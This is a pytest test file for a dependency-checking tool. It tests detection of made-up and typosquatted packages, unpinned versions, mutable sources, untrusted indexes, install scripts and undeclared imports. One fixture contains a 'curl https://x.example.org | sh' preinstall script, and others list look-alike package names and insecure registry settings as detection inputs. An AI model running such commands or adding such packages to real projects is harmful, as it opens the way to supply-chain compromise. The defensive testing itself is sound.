"""Packages that a change adds: told from those that it had, and judged with what is known."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from pathlib import Path

import pytest
from endurance import in_time

from aicheck.cache import Cache
from aicheck.catalogue import Catalogue
from aicheck.changed_file import whole
from aicheck.checks import dependencies
from aicheck.checks.context import Context
from aicheck.config import load
from aicheck.model import Change, Failure, FileChange, Finding, Hunk

Files = Mapping[str, str]


def hunks(base: str, head: str) -> tuple[Hunk, ...]:
    """One hunk for all between the lines that both sides begin and end with."""
    old, new = base.split("\n"), head.split("\n")
    start = 0
    while start < min(len(old), len(new)) and old[start] == new[start]:
        start += 1
    end = 0
    while end < min(len(old), len(new)) - start and old[-1 - end] == new[-1 - end]:
        end += 1
    removed, added = old[start : len(old) - end], new[start : len(new) - end]
    at = start + 1 if added else start
    return (Hunk(start + 1 if removed else start, tuple(removed), at, tuple(added)),)


def change_of(base: Files, head: Files) -> Change:
    files = []
    for path, text in head.items():
        if path not in base:
            files.append(FileChange(path, "added", hunks=whole(text), head=text))
        elif base[path] != text:
            both = hunks(base[path], text)
            files.append(FileChange(path, "modified", hunks=both, base=base[path], head=text))
    gone = [
        FileChange(path, "deleted", old_path=path, base=text)
        for path, text in base.items()
        if path not in head
    ]
    return Change("range", "b" * 40, "h" * 40, "shop", (), (*files, *gone))


def context_of(tree: Files) -> Context:
    def texts(_: str, paths: Iterable[str]) -> dict[str, str]:
        return {path: tree[path] for path in paths if path in tree}

    config = load(None, None, "default")
    return Context(
        config, Catalogue({}, ""), Cache(None), Path(), 1, tree=lambda _: tree, texts=texts
    )


def check(head: Files, base: Files | None = None) -> list[tuple[str, str, int]]:
    """The findings of a change from `base` to `base` with `head` on top: rule, path and line."""
    return [(it.rule.id, it.path or "", it.start.line) for it in findings(head, base)]


def findings(head: Files, base: Files | None = None) -> list[Finding]:
    return only_findings(results(head, base))


def only_findings(found: Iterable[Finding | Failure]) -> list[Finding]:
    return [it for it in found if isinstance(it, Finding)]


def results(head: Files, base: Files | None = None) -> list[Finding | Failure]:
    before = base or {}
    return list(dependencies.check(change_of(before, {**before, **head}), context_of(before)))


def rules(head: Files, base: Files | None = None) -> list[str]:
    return [rule for rule, _, _ in check(head, base)]


# -- names -----------------------------------------------------------------------------------------

MADE_UP = "flask-jwt-session-warden"
MADE_UP_NODE = "express-session-guardian-pro"


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("requirements.txt", f"flask==3.1.2\n{MADE_UP}==1.2\n", 2),
        ("requirements/prod.txt", f"{MADE_UP}[x,y]==1.2 ; python_version > '3.9'  # why\n", 1),
        ("constraints.txt", f"{MADE_UP}==1.2 \\\n  --hash=sha256:{'0' * 64}\n", 1),
        ("more.txt", f"flask==3.1.2\n{MADE_UP}==1.2\n", 2),
        (
            "pyproject.toml",
            f'[project]\nname = "shop"\ndependencies = [\n  "{MADE_UP}>=1",\n]\n',
            4,
        ),
        ("pyproject.toml", f'[project.optional-dependencies]\nx = ["{MADE_UP}"]\n', 2),
        ("pyproject.toml", f'[dependency-groups]\ndev = ["{MADE_UP}"]\n', 2),
        ("pyproject.toml", f'[build-system]\nrequires = ["{MADE_UP}"]\n', 2),
        ("pyproject.toml", f'[tool.poetry.dependencies]\npython = "^3.11"\n{MADE_UP} = "^1"\n', 3),
        (
            "pyproject.toml",
            f'[tool.poetry.group.dev.dependencies]\n{MADE_UP} = {{version="1"}}\n',
            2,
        ),
        ("Pipfile", f'[packages]\n"{MADE_UP}" = "*"\n', 2),
        ("setup.cfg", f"[options]\ninstall_requires =\n    flask\n    {MADE_UP}>=1\n", 4),
        ("setup.cfg", f"[options.extras_require]\ndev =\n    {MADE_UP}\n", 3),
        ("tox.ini", f"[testenv]\ndeps =\n    -r x.txt\n    py311: {MADE_UP}\n", 4),
        ("setup.py", f"from setuptools import setup\nsetup(install_requires=['{MADE_UP}'])\n", 2),
        (
            "setup.py",
            f"import setuptools as s\n\ns.setup(extras_require={{'a': ['{MADE_UP}']}})\n",
            3,
        ),
        (
            "noxfile.py",
            f"import nox\ndef t(session):\n    session.install('-e', '.', '{MADE_UP}')\n",
            3,
        ),
        ("environment.yml", f"dependencies:\n  - python\n  - pip:\n    - {MADE_UP}==1\n", 4),
        ("tool.py", f"# /// script\n# dependencies = [\n#   '{MADE_UP}',\n# ]\n# ///\nx = 1\n", 3),
        (
            "Dockerfile",
            f"FROM python\nRUN apt-get update && \\\n    pip install --no-deps {MADE_UP}==1.0\n",
            3,
        ),
        ("Dockerfile", f'RUN ["pip", "install", "{MADE_UP}==1"]\n', 1),
        (
            ".github/workflows/ci.yml",
            f"jobs:\n  a:\n    steps:\n      - run: python -m pip install {MADE_UP}\n",
            4,
        ),
        (".github/workflows/ci.yml", f"      - run: |\n          uvx {MADE_UP}@1.2 --x flask\n", 2),
        (
            "scripts/run.sh",
            f"#!/bin/sh\nset -e\nuv pip install -r a.txt -i https://pypi.org/simple {MADE_UP}\n",
            3,
        ),
        ("scripts/run.sh", f"uvx --from {MADE_UP} some-command\n", 1),
        ("Makefile", f"setup:\n\t@pip install {MADE_UP}\n", 2),
    ],
)
def test_a_made_up_package_of_python_is_found(path: str, text: str, line: int) -> None:
    assert ("dependency-unknown", path, line) in check({path: text})


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("package.json", f'{{\n "dependencies": {{\n  "{MADE_UP_NODE}": "^1.0.0"\n }}\n}}\n', 3),
        ("package.json", f'{{"devDependencies": {{"x": "npm:{MADE_UP_NODE}@^1"}}}}\n', 1),
        ("package.json", f'{{"optionalDependencies": {{"{MADE_UP_NODE}": "1.0.0"}}}}\n', 1),
        ("package.json", '{"peerDependencies": {"@angular/session-guardian": "1.0.0"}}\n', 1),
        ("Dockerfile", f"RUN npm install -g {MADE_UP_NODE}@1.0.0\n", 1),
        ("a.sh", f"npx -y {MADE_UP_NODE} init\n", 1),
        ("a.sh", f"pnpm add --save-dev {MADE_UP_NODE}\n", 1),
    ],
)
def test_a_made_up_package_of_npm_is_found(path: str, text: str, line: int) -> None:
    assert ("dependency-unknown", path, line) in check({path: text})


def test_what_is_unknown_is_not_said_not_to_exist() -> None:
    """Offline nobody can tell, and the message has the day of the list."""
    (found,) = findings({"requirements.txt": f"flask==3\nrich==14\n{MADE_UP}==1\n"})

    assert isinstance(found, Finding)
    assert found.message.startswith(f"'{MADE_UP}' is in no lock file and not among the ")
    assert found.message.endswith(": check that it exists")
    assert " of PyPI known on 20" in found.message


@pytest.mark.parametrize(
    ("path", "name", "like"),
    [
        ("requirements.txt", "reqeusts==2.32.5", "requests"),
        ("requirements.txt", "djnago==5", "django"),
        ("requirements.txt", "python-requests2==1", "requests"),
        ("requirements.txt", "numpyy==1", "numpy"),
        ("requirements.txt", "scikitlearn==1", "scikit-learn"),
        ("requirements.txt", "dateutil-python==1", "python-dateutil"),
        ("requirements.txt", "requ\u0435sts==1", "requests"),
        ("package.json", "axois", "axios"),
        ("package.json", "types-node", "@types/node"),
        ("package.json", "@angulr/core", "@angular/core"),
        ("package.json", "lodash-js", "lodash"),
    ],
)
def test_a_look_alike_is_found_with_what_it_looks_like(path: str, name: str, like: str) -> None:
    text = f"{name}\n" if path.endswith("txt") else f'{{"dependencies": {{"{name}": "^1.0.0"}}}}'
    (found,) = [it for it in results({path: text}) if isinstance(it, Finding)]

    assert (found.rule.id, found.rule.severity.name) == ("dependency-look-alike", "HIGH")
    assert f"looks like '{like}'" in found.message


@pytest.mark.parametrize(
    "names",
    [
        "requests httpx PyYAML ruamel.yaml Flask_SQLAlchemy typing_extensions zope.interface",
        "panda beautifulsoup jinja python-dotenv py-cpuinfo types-requests pandas-stubs",
        "psycopg2-binary psycopg opencv-python-headless scikit-learn pytest-xdist flask-login",
        "urllib3 attrs cattrs rich toml tomli tomlkit click clickclick celery boto boto3",
    ],
)
def test_known_packages_are_taken_for_themselves(names: str) -> None:
    listed = "".join(f"{name}==1.0\n" for name in names.split())

    assert check({"requirements.txt": listed}) == []


def test_known_packages_of_npm_are_taken_for_themselves() -> None:
    names = (
        "react preact lodash lodash-es express axios vue vuex next nuxt chalk node-fetch moment "
        "@types/node @types/react typescript-eslint eslint-plugin-n discord.js is-odd is-even"
    )
    listed = ", ".join(f'"{name}": "^1.0.0"' for name in names.split())

    assert check({"package.json": f'{{"dependencies": {{{listed}}}}}'}) == []


# -- what is no addition ---------------------------------------------------------------------------


def test_a_package_that_moves_between_files_is_no_addition() -> None:
    base = {"requirements.txt": f"flask==3.1\n{MADE_UP}==1.0\n"}
    head = {"requirements.txt": "flask==3.1\n", "extra.txt": f"rich==14.0\n{MADE_UP}==1.0\n"}

    assert check(head, base) == []


def test_a_new_version_is_no_addition() -> None:
    base = {"requirements.txt": f"flask==3.1\n{MADE_UP}==1.0\n"}

    assert check({"requirements.txt": f"flask==3.1\n{MADE_UP}==2.0\n"}, base) == []


def test_what_the_project_has_in_another_manifest_is_known() -> None:
    base = {"api/pyproject.toml": f'[project]\ndependencies = ["{MADE_UP}"]\n'}

    assert check({"web/requirements.txt": f"flask==3\nrich==1\n{MADE_UP}==1.0\n"}, base) == []


def test_the_projects_own_packages_are_known() -> None:
    base = {
        "packages/a/package.json": '{"name": "@shop-guardians/core"}',
        "package.json": '{"name": "shop"}',
    }
    text = (
        '{"name": "shop", "dependencies": {"@shop-guardians/core": "*", "@shop-guardians/x": "1"}}'
    )

    assert "dependency-unknown" not in rules({"package.json": text}, base)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("tests/data/pyproject.toml", f'[project]\nname = "{MADE_UP}"\nversion = "1"\n'),
        ("setup.cfg", f"[metadata]\nname = {MADE_UP}\n"),
    ],
)
def test_a_manifest_of_the_change_does_not_claim_a_name(path: str, text: str) -> None:
    """Or an agent would clear a package that it made up by one more file."""
    base = {"pyproject.toml": '[project]\nname = "shop"\nversion = "1"\n'}
    head = {"requirements.txt": f"{MADE_UP}==1.2\n", path: text}

    assert "dependency-unknown" in rules(head, base)


@pytest.mark.parametrize(
    ("entry", "known"),
    [
        (f'[[package]]\nname = "{MADE_UP}"\nversion = "1"\n', False),
        (f'[[package]]\nname = "{MADE_UP}"\nsdist = {{ hash = "sha256:{"a" * 64}" }}\n', True),
    ],
)
def test_a_lock_file_of_the_change_counts_only_with_a_hash(entry: str, known: bool) -> None:
    """Its author wrote it: but what has a hash installs that very file, or nothing."""
    head = {"uv.lock": entry, "pyproject.toml": f'[project]\ndependencies = ["{MADE_UP}"]\n'}

    assert (rules(head) == []) is known


def test_a_lock_file_of_the_base_counts_as_it_is() -> None:
    base = {"poetry.lock": f'[[package]]\nname = "{MADE_UP}"\n'}
    head = {"pyproject.toml": f'[project]\ndependencies = ["{MADE_UP}"]\n'}

    assert check(head, base) == []


def test_with_an_index_of_ones_own_unknown_names_are_private_ones() -> None:
    base = {"requirements.txt": "--index-url https://packages.example.org/simple\nflask==3\n"}

    assert check({"requirements.txt": f"{base['requirements.txt']}{MADE_UP}==1\n"}, base) == []


@pytest.mark.parametrize(
    "line",
    [
        "# pip install made-up-session-pkg",
        'echo "pip install made-up-session-pkg"',
        "pip install -r requirements.txt",
        "pip install -e .",
        "pip install .[dev] ./local ../x/dist/a-1.0-py3-none-any.whl",
        "pip install $PACKAGES ${NAME}==1.0 $(cat made-up-session-pkg)",
        "pip install sqlite-utils==${{ matrix.sqlite-utils-version }}",
        "apt-get install -y made-up-session-pkg",
        "brew install made-up-session-pkg",
        "pip install --target made-up-session-pkg flask==3.1",
        'echo "x" && (uv add failed || true) # made-up',
        "npm install",
        "npm install ./made-up-session-pkg",
        "npm run install-made-up-session-pkg",
    ],
)
def test_other_commands_name_no_package(line: str) -> None:
    found = [rule for rule in rules({"a.sh": f"{line}\n"}) if "unknown" in rule]

    assert found == [] or "uv add failed" in line


# -- versions --------------------------------------------------------------------------------------


def test_a_package_without_a_version_among_pinned_ones_is_found() -> None:
    base = {"requirements.txt": "flask==3.1\nrich==14.0\n"}

    assert check({"requirements.txt": "flask==3.1\nrich==14.0\nrequests\n"}, base) == [
        ("dependency-unpinned", "requirements.txt", 3)
    ]


def test_a_pin_that_is_taken_away_is_found() -> None:
    base = {"requirements.txt": "flask==3.1\nrich==14.0\nhttpx==0.28\n"}

    assert check({"requirements.txt": "flask==3.1\nrich==14.0\nhttpx>=0.28\n"}, base) == [
        ("dependency-unpinned", "requirements.txt", 3)
    ]


def test_an_application_that_pins_nothing_is_told_once() -> None:
    assert check({"requirements.txt": "flask\nrich\nhttpx>=0.28\n"}) == [
        ("dependency-unpinned", "requirements.txt", 1)
    ]


@pytest.mark.parametrize(
    ("head", "base"),
    [
        ({"pyproject.toml": '[project]\ndependencies = ["flask>=3", "rich"]\n'}, {}),
        ({"requirements.in": "flask\nrich\n"}, {}),
        ({"requirements-dev.txt": "pytest\nruff\n"}, {}),
        ({"requirements.txt": "flask\nrich\n"}, {"uv.lock": ""}),
        ({"requirements.txt": "flask\nrich\nclick\n"}, {"requirements.txt": "flask\nrich\n"}),
        ({"package.json": '{"dependencies": {"react": "^19.0.0"}}'}, {}),
        ({"package.json": '{"dependencies": {"react": "*"}}'}, {"yarn.lock": ""}),
        ({".github/workflows/a.yml": "    - run: pip install build\n"}, {}),
        ({"Dockerfile": "RUN pip install --upgrade pip setuptools && pip install -r r.txt\n"}, {}),
        ({"Dockerfile": "RUN pip install -c constraints.txt flask\n"}, {}),
    ],
)
def test_open_versions_are_fine_elsewhere(head: Files, base: Files) -> None:
    assert check(head, base) == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"dependencies": {"react": "latest"}}'),
        ("Dockerfile", "RUN pip install flask rich\n"),
        ("Cargo.toml", '[dependencies]\nserde = "*"\n'),
        (
            "pom.xml",
            "<project><dependencies><dependency><groupId>a</groupId>"
            "<artifactId>b</artifactId><version>LATEST</version></dependency></dependencies></project>",
        ),
        ("build.gradle", "dependencies {\n  implementation 'a.b:c:1.+'\n}\n"),
        ("composer.json", '{"require": {"a/b": "*", "php": "*"}}'),
    ],
)
def test_any_version_is_found_where_no_lock_file_is(path: str, text: str) -> None:
    assert rules({path: text}) == ["dependency-unpinned"]


# -- sources ---------------------------------------------------------------------------------------

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "shop @ git+https://git.example.org/shop.git@main\n"),
        ("requirements.txt", "-e git+https://git.example.org/shop.git#egg=shop\n"),
        ("requirements.txt", f"git+http://git.example.org/shop.git@{COMMIT}\n"),
        ("requirements.txt", "https://git.example.org/shop/archive/main.zip\n"),
        (
            "pyproject.toml",
            '[tool.uv.sources]\nshop = { git = "https://x.example.org/s", tag = "v1" }\n',
        ),
        (
            "pyproject.toml",
            '[tool.poetry.dependencies]\nshop = {git = "https://x.example.org/s"}\n',
        ),
        ("package.json", '{"dependencies": {"shop": "github:someone/shop"}}'),
        ("package.json", '{"dependencies": {"shop": "someone/shop#main"}}'),
        ("package.json", '{"dependencies": {"shop": "https://x.example.org/shop.tgz"}}'),
        (
            "Cargo.toml",
            '[dependencies]\nshop = { git = "https://x.example.org/s", branch = "a" }\n',
        ),
        ("Gemfile", "gem 'shop', git: 'https://x.example.org/s'\n"),
        ("go.mod", "module m\n\nreplace example.org/a => example.com/fork/a v1.0.0\n"),
        ("Dockerfile", "RUN pip install git+https://x.example.org/s@main\n"),
        ("a.sh", "npm install git+https://x.example.org/s\n"),
    ],
)
def test_an_address_whose_content_may_change_is_found(path: str, text: str) -> None:
    assert rules({path: text}) == ["dependency-from-url"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", f"shop @ git+https://git.example.org/shop.git@{COMMIT}\n"),
        ("requirements.txt", f"https://x.example.org/a.whl#sha256={'a' * 64}\n"),
        ("requirements.txt", "-e .\n-e file:///src\n./local\n"),
        (
            "pyproject.toml",
            f'[tool.uv.sources]\nshop = {{ git = "https://x.example.org/s", rev = "{COMMIT}" }}\n',
        ),
        ("pyproject.toml", '[tool.uv.sources]\nshop = { workspace = true }\nx = { path = "x" }\n'),
        ("package.json", f'{{"dependencies": {{"shop": "someone/shop#{COMMIT}"}}}}'),
        ("package.json", '{"dependencies": {"a": "workspace:*", "b": "file:../b", "c": "link:c"}}'),
        (
            "Cargo.toml",
            f'[dependencies]\nshop = {{ git = "https://x.example.org/s", rev = "{COMMIT}" }}\n',
        ),
        ("go.mod", "module m\n\nreplace example.org/a => ../a\n"),
        ("tox.ini", "[testenv]\ndeps =\n    dev: https://x.example.org/s/archive/main.tar.gz\n"),
    ],
)
def test_a_fixed_or_local_source_is_fine(path: str, text: str) -> None:
    assert check({path: text}) == []


def test_a_password_in_an_address_is_not_shown() -> None:
    (found,) = findings(
        {"requirements.txt": "shop @ git+https://me:pw" + "9@x.example.org/s@main\n"}
    )

    assert isinstance(found, Finding)
    assert "pw9" not in found.message


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "--extra-index-url https://packages.example.org/simple\n"),
        ("requirements.txt", "-i http://packages.example.org/simple\n"),
        ("requirements.txt", "--trusted-host packages.example.org\n"),
        ("pip.conf", "[global]\nextra-index-url = https://packages.example.org/simple\n"),
        ("pyproject.toml", '[[tool.uv.index]]\nname = "a"\nurl = "https://p.example.org/simple"\n'),
        (
            "pyproject.toml",
            '[[tool.poetry.source]]\nurl = "https://example.org"\npriority = "primary"\n',
        ),
        ("Pipfile", '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = false\n'),
        ("Dockerfile", "ENV PIP_EXTRA_INDEX_URL=https://p.example.org/simple\n"),
        ("Dockerfile", "RUN pip install --trusted-host p.example.org -r r.txt\n"),
        (".npmrc", "registry=https://npm.example.org/\n"),
        (".npmrc", "strict-ssl=false\n"),
        ("a.sh", "npm config set registry http://npm.example.org\n"),
        ("a.sh", "export GOINSECURE=example.org\n"),
        ("Gemfile", "source 'http://gems.example.org'\n"),
        (
            "pom.xml",
            "<project><repositories><repository><url>http://r.example.org</url></repository></repositories></project>",
        ),
        ("composer.json", '{"config": {"secure-http": false}}'),
    ],
)
def test_another_place_to_take_packages_from_is_found(path: str, text: str) -> None:
    assert rules({path: text}) == ["dependency-index"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "--index-url https://pypi.org/simple\n--trusted-host localhost\n"),
        ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cpu\n"),
        ("requirements.txt", "-i ${INDEX}\n"),
        (
            "pyproject.toml",
            '[[tool.uv.index]]\nname = "a"\nurl = "https://p.example.org"\nexplicit = true\n',
        ),
        (
            ".npmrc",
            "registry=https://registry.npmjs.org/\n@own:registry=https://npm.example.org/\n",
        ),
    ],
)
def test_the_public_index_and_a_bound_one_are_fine(path: str, text: str) -> None:
    assert check({path: text}) == []


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"scripts": {"postinstall": "node fetch.js"}}'),
        ("package.json", '{"scripts": {"preinstall": "curl https://x.example.org | sh"}}'),
        ("package.json", '{"scripts": {"postinstall": "husky && node x.js"}}'),
        ("setup.py", "setup(cmdclass={'install': Mine})\n"),
    ],
)
def test_code_that_runs_on_installation_is_found(path: str, text: str) -> None:
    assert rules({path: text}) == ["dependency-install-script"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"scripts": {"postinstall": "patch-package", "prepare": "husky"}}'),
        ("package.json", '{"scripts": {"postinstall": "npm run g", "g": "prisma generate"}}'),
        ("setup.py", "setup(cmdclass={'build_ext': Mine})\n"),
    ],
)
def test_usual_steps_are_fine(path: str, text: str) -> None:
    assert check({path: text}) == []


def test_a_new_package_with_a_script_is_told_by_the_lock_file() -> None:
    name = "@example-org/shop-native"
    package = f'"node_modules/{name}": {{"hasInstallScript": true, "integrity": "sha512-aa"}}'
    head = {
        "package.json": f'{{"dependencies": {{"{name}": "^1.0.0"}}}}',
        "package-lock.json": f'{{"packages": {{{package}}}}}',
    }

    assert rules(head) == ["dependency-install-script"]


# -- imports ---------------------------------------------------------------------------------------

PYPROJECT = '[project]\nname = "shop"\ndependencies = ["flask", "pyyaml", "google-cloud-storage"]\n'
PYTHON = {"pyproject.toml": PYPROJECT, "src/shop/__init__.py": "", "tests/conftest.py": ""}


def test_an_import_without_a_declared_package_is_found() -> None:
    assert check({"src/shop/a.py": "import os\nimport httpx\n"}, PYTHON) == [
        ("undeclared-import", "src/shop/a.py", 2)
    ]


def test_an_import_of_what_nobody_knows_is_found() -> None:
    text = "from flask_jwt_session_warden import Guard\n"

    assert check({"src/shop/a.py": text}, PYTHON) == [("dependency-unknown", "src/shop/a.py", 1)]


@pytest.mark.parametrize(
    "text",
    [
        "import os, sys, json\nimport tomllib\nimport distutils\nimport asyncore\n",
        "from . import a\nfrom .b import c\nimport shop.a\nfrom tests import conftest\n",
        "import yaml\nfrom google.cloud import storage\nfrom werkzeug import x\nimport jinja2\n",
        "try:\n    import orjson\nexcept ImportError:\n    orjson = None\n",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import httpx\n",
        "import sys\nif sys.version_info < (3, 11):\n    import tomli\n",
        "from contextlib import suppress\nwith suppress(ImportError):\n    import httpx\n",
        "import _shop_native\nimport shop_pb2\nimport pkg_resources\n",
        "x = 'import httpx'\n",
    ],
)
def test_imports_that_need_nothing_more_are_clean(text: str) -> None:
    assert check({"src/shop/a.py": text}, PYTHON) == []


@pytest.mark.parametrize("path", ["docs/conf.py", "examples/a.py", "scripts/x.py", "bench/y.py"])
def test_what_stands_aside_may_use_more(path: str) -> None:
    assert check({path: "import httpx\n"}, PYTHON) == []


def test_without_a_manifest_nothing_is_undeclared() -> None:
    assert check({"a.py": "import httpx\n"}, {"b.py": ""}) == []


def test_an_import_that_stood_there_is_left_alone() -> None:
    base = {**PYTHON, "src/shop/a.py": "import httpx\n"}

    assert check({"src/shop/a.py": "import httpx\nfrom httpx import Client\n"}, base) == []


NODE = {
    "package.json": '{"name": "shop", "dependencies": {"react": "^19.0.0", "@types/estree": "1"}}',
    "tsconfig.json": '{"compilerOptions": {"paths": {"@lib/*": ["./lib/*"], // x\n}}}',
    "src/components/button.tsx": "",
    "packages/ui/package.json": '{"name": "@shop/ui"}',
}


def test_a_script_that_imports_what_is_not_declared_is_found() -> None:
    text = (
        "import React from 'react';\nimport axios from 'axios';\nconst x = require('left-pad');\n"
    )

    assert check({"src/a.ts": text}, NODE) == [
        ("undeclared-import", "src/a.ts", 2),
        ("undeclared-import", "src/a.ts", 3),
    ]


def test_a_script_that_imports_what_nobody_knows_is_found() -> None:
    assert check({"src/a.ts": f"import x from '{MADE_UP_NODE}';\n"}, NODE) == [
        ("dependency-unknown", "src/a.ts", 1)
    ]


@pytest.mark.parametrize(
    "name",
    [
        "react/jsx-runtime",
        "fs",
        "node:fs/promises",
        "./a",
        "../b",
        "@/x",
        "~/y",
        "#imports",
        "virtual:pwa",
        "~icons/mdi/x",
        "@lib/a",
        "components/button",
        "@shop/ui",
        "estree",
        "https://x.example.org/a.js",
        "bun:test",
        "$lib/x",
        "./a.css?raw",
        "vscode",
        "/abs",
        "@shop/ui/button",
        "src/components/button",
    ],
)
def test_specifiers_that_name_no_new_package_are_clean(name: str) -> None:
    assert check({"src/a.ts": f"import x from '{name}';\nimport '{name}';\n"}, NODE) == []


# -- what cannot be read ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("pyproject.toml", "[project\n"),
        ("pyproject.toml", "a = " + "[" * 5000),
        ("package.json", "{"),
        ("package.json", "[" * 100_000),
        ("package.json", "[]"),
        ("Cargo.toml", "x"),
        ("setup.py", "def ("),
        ("pom.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        ("pom.xml", "<a>" * 1000),
        ("pom.xml", "<a"),
    ],
)
def test_a_broken_manifest_is_told_and_required_of_nobody(path: str, text: str) -> None:
    (failure,) = results({path: text})

    assert isinstance(failure, Failure)
    assert (failure.check, failure.path, failure.required) == ("dependencies", path, False)
    assert failure.reason.startswith("its packages were not read: ")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"dependencies": [1], "scripts": 3, "name": {}, "overrides": {"a": {}}}'),
        ("pyproject.toml", '[project]\ndependencies = "flask"\nname = 3\ndynamic = 1\n'),
        ("pyproject.toml", "[tool]\nuv = 3\npoetry = []\n"),
        ("pyproject.toml", "[project]\ndependencies = [1, {a = 2}]\n[tool.uv]\nsources = []\n"),
        ("Pipfile", "packages = 1\nsource = 2\n"),
        ("Cargo.toml", "dependencies = 1\ntarget = 2\npatch = 3\n"),
        ("composer.json", '{"require": 1, "repositories": "x", "config": 2}'),
        ("requirements.txt", "\x00\x01\n@@@\n=\n--\n-\n\\\n"),
        ("go.mod", "require (\n\n replace => =>\n"),
    ],
)
def test_a_manifest_of_other_shapes_is_survived(path: str, text: str) -> None:
    assert [it for it in results({path: text}) if isinstance(it, Failure)] == []


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("requirements.txt", "a" * 200_000),
        ("requirements.txt", "a-" * 100_000 + "!"),
        ("requirements.txt", "x" * 50 + " " * 200_000 + "!"),
        ("Dockerfile", "RUN pip install " + "a " * 200_000),
        ("a.sh", "pip install \\\n" * 50_000),
        ("a.sh", "(" * 50_000 + "pip install x"),
        ("a.sh", "env " * 50_000 + "pip install x"),
        (".github/workflows/a.yml", "run: " + "A=1 " * 50_000 + "pip install"),
        (".npmrc", "a" * 500_000),
        ("Gemfile", "gem '" + "a" * 500_000),
        ("build.gradle", "implementation " + "(" * 300_000),
        ("a.js", "import " + "{" * 300_000),
        ("a.js", "import x from '" + "a" * 300_000),
        ("package.json", '{"dependencies": {"' + "a" * 300_000 + '": "1"}}'),
        ("yarn.lock", '"' + "@" * 300_000),
        ("pnpm-lock.yaml", "  '" + "/" * 300_000),
        ("tox.ini", "[testenv]\ndeps=" + "a, " * 100_000),
        ("setup.cfg", "[options]\ninstall_requires=\n" + "  a\n" * 20_000),
    ],
)
def test_hostile_files_take_no_time(path: str, line: str) -> None:
    with in_time():
        check({path: line, "package.json": line if path == "package.json" else "{}"})


def test_a_manifest_that_no_person_writes_is_told() -> None:
    """The first of so many names are judged, and repeated ones are one: not checked is said."""
    listed = "".join(f"made-up-package-{number}==1\n" for number in range(20_000))
    with in_time():
        failure, *found = results({"requirements.txt": "djnago==2\n" * 9 + listed})

    assert isinstance(failure, Failure)
    assert "it asks for more than 3,000 things" in failure.reason
    assert [it for it in found if "'djnago' looks like 'django'" in str(it)]


def test_many_packages_take_no_time() -> None:
    listed = "".join(f'"made-up-package-{number}",\n' for number in range(2_500))
    with in_time():
        found = check({"pyproject.toml": f"[project]\ndependencies = [\n{listed}]\n"})

    assert len(found) > 2_000
    assert [line for _, _, line in found] == sorted(line for _, _, line in found)


# -- patches ---------------------------------------------------------------------------------------


def test_the_lines_of_a_patch_are_read_by_themselves() -> None:
    """Without the whole file, and without a tree, lists and commands can still be judged."""
    hunk = Hunk(4, (), 5, ("reqeusts==2.32", "flask==3"))
    file = FileChange("requirements.txt", "modified", hunks=(hunk,))
    change = Change("patch", None, None, "shop", (), (file,))
    (found,) = only_findings(dependencies.check(change, context_of({})))

    assert isinstance(found, Finding)
    assert (found.rule.id, found.start.line) == ("dependency-look-alike", 5)


def test_other_files_ask_nothing_of_the_tree() -> None:
    def fail(*_: object) -> dict[str, str]:
        raise AssertionError

    change = change_of({}, {"a.py": "import os\nfrom . import b\n", "b.md": "pip install x\n"})
    config = load(None, None, "default")
    context = Context(config, Catalogue({}, ""), Cache(None), Path(), 1, tree=fail, texts=fail)

    assert list(dependencies.check(change, context)) == []
